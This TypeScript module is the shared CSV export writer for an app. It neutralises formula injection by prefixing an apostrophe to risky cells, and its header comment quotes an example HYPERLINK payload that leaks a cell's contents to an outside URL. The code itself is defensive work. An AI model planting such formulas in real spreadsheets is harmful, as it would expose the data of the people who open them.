/**
 * The one CSV writer every export uses (issue 24). A CSV opened in Excel or LibreOffice runs a cell that starts
 * with = + - @ (or a tab or carriage return, which some read past) as a formula: a rating comment such as
 * `=HYPERLINK("http://…?x="&A1,"Xem chi tiết")` typed on a citizen's tablet would come out live in the manager's
 * spreadsheet. As OWASP describes ("CSV injection"): a text cell starting with one of those characters (or its
 * full-width form, which some Asian input methods type and Excel reads as the same) is made inert with a leading
 * apostrophe and quoted, as is every cell holding a comma, a quote or a line end (so none can start a new cell). A plain number ("-5", "3,25") is a number, never a formula: left as it is.
 *
 * Files are UTF-8 with a byte-order mark (so Excel reads Vietnamese right) and Windows line ends.
 */
import Papa from 'papaparse';

export type CsvValue = string | number | null | undefined;

/** What a spreadsheet may take for the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^-?\d+([.,]\d+)?$/;

/** One cell's text as it is safe to write: a would-be formula gets a leading apostrophe. */
export function inertCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  if (typeof value === 'number' || PLAIN_NUMBER.test(text)) return text;
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Undoes `inertCell` for a file read back (a catalogue exported, edited and imported again). */
export function readInertCell(text: string): string {
  return text.startsWith("'") && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}

/** Rows (the heading first) as CSV text: every cell inert, lines ended by CR LF. */
export function csvText(rows: readonly (readonly CsvValue[])[]): string {
  return Papa.unparse(
    rows.map((row) => row.map(inertCell)),
    { newline: '\r\n', quotes: (cell: unknown) => typeof cell === 'string' && cell.startsWith("'") },
  );
}

/** Rows as a CSV file's text with the byte-order mark Excel needs for UTF-8. */
export const csvFileText = (rows: readonly (readonly CsvValue[])[]): string => `\ufeff${csvText(rows)}`;

/** Rows as a CSV file's bytes. */
export const csvFile = (rows: readonly (readonly CsvValue[])[]): Buffer => Buffer.from(csvFileText(rows), 'utf8');
